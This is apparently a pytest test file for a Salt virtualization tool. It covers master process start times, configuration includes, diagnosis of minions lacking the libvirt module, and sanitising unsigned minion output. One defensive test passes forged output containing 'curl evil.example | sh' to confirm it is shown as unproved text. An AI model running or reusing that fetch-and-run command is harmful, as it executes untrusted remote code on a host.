"""What a check of the setup reads of a master, and of hosts that cannot sign what they say."""

import contextlib
import os
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
import salt.config
import salt.loader
from saltvirt.checks.master import runningmaster
from saltvirt.checks.setup.master import run, unloaded
from saltvirt.core.salt import lazyimport
from saltvirt.libvirt import connect
from setupgaps import NOT_LOADED
from setupkit import ROOT


def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
    script = tmp_path / "salt-master"
    script.write_text("import time\ntime.sleep(60)\n")
    before = time.time()
    process = subprocess.Popen([sys.executable, str(script)])
    try:
        (tmp_path / "pid").write_text(f"{process.pid}\n")
        while b"salt-master" not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
            assert time.time() < before + 10
        found = runningmaster._read_start_s(tmp_path / "pid")
        assert found is not None and abs(found - before) < 5
        (tmp_path / "pid").write_text(str(os.getpid()))
        assert runningmaster._read_start_s(tmp_path / "pid") is None  # not a master
    finally:
        process.kill()
        process.wait()
    assert runningmaster._read_start_s(tmp_path / "nothing") is None


def test_included_files_of_the_configuration_count(setup):
    more = setup.folder / "etc/master.d"
    more.mkdir()
    (more / "virt.conf").write_text("")
    (setup.folder / "elsewhere.conf").write_text("")
    setup.opts["include"] = str(setup.folder / "else*.conf")

    setup.monkeypatch.setattr(runningmaster, "_read_start_s", lambda _path: 1.0)

    assert [Path(one).name for one in runningmaster.find_newer_files(setup.opts)] == [
        *("master", "virt.conf", "elsewhere.conf")
    ]


@pytest.fixture
def minion(tmp_path, monkeypatch):
    """A function that returns what Salt says of a function on a minion with these modules."""

    def say(*folders):
        opts = salt.config.minion_config(None)
        opts.update(
            root_dir=str(tmp_path),
            cachedir=str(tmp_path),
            extension_modules=str(tmp_path / "extmods"),
            module_dirs=[str(ROOT / one) for one in folders],
        )
        functions = salt.loader.minion_mods({**opts, "grains": {}}, utils={}, whitelist=["virt"])
        assert run.FUN not in functions
        return functions.missing_fun_string(run.FUN)

    monkeypatch.setattr(connect, "libvirt", lazyimport.OptionalModule("no_such_module"))
    return say


def judged(said):
    """Return the check and the fix of a host by what Salt says of it."""
    found = unloaded.explain("h", None, said, {}, is_synced=True)
    return found.check, found.fix


@pytest.mark.slow
def test_a_minion_without_libvirts_module_is_told_from_one_that_was_never_synced(minion):
    assert judged(minion("_modules")) == ("packages", "salt h state.apply hypervisor.packages")
    assert judged(minion()) == ("modules", "salt h saltutil.sync_all")


def test_what_a_minion_says_unsigned_is_one_line_that_no_terminal_obeys():
    assert unloaded.one_line("a\n\x1b[31mb\tc" + "d" * 999) == r"a \x1b[31mb c" + "d" * 287 + " …"
    assert unloaded.one_line({"a": 1}) == "{'a': 1}"


def test_what_any_minion_may_have_said_in_a_hosts_name_is_shown_as_that():
    for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
        shown = unloaded.explain("h", None, forged, {}, is_synced=True).what
        assert f"in its name, not proved: {forged}" in shown

    signed = unloaded.explain("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
    assert signed.endswith(f"are of another release: {NOT_LOADED}")


class Local:
    """Stand for a LocalClient: no unit test has a master."""

    def __init__(self, stored):
        self.stored, self.published = list(stored), []

    def pub(self, targets, fun, _arg, **_options):
        """Note what was sent."""
        self.published.append((targets, fun))
        return {"jid": "1", "minions": targets}

    def get_cache_returns(self, _jid):
        """Return what has come by now."""
        return self.stored.pop(0) if len(self.stored) > 1 else self.stored[0]


@pytest.mark.parametrize(
    ("stored", "said"),
    [
        ([{}, {"h1": {"ret": NOT_LOADED}}, {"h1": {"ret": "x"}, "h2": {"ret": "y"}}], "xy"),
        ([{"h1": {"ret": "x"}}], "x"),
        ([{}], ""),
    ],
)
def test_what_hosts_have_returned_is_read_once_it_is_stored(monkeypatch, stored, said):
    monkeypatch.setattr(unloaded, "_EVERY_S", 0.001)
    local = Local(stored)
    cloud = SimpleNamespace(client=lambda: contextlib.nullcontext(local))

    found = unloaded.unsigned_answers(cloud, {"h2", "h1"}, run.FUN, 0.1)

    assert "".join(found.values()) == said
    assert local.published == [(["h1", "h2"], run.FUN)]
    assert unloaded.unsigned_answers(cloud, [], run.FUN, 0.1) == {} and len(local.published) == 1
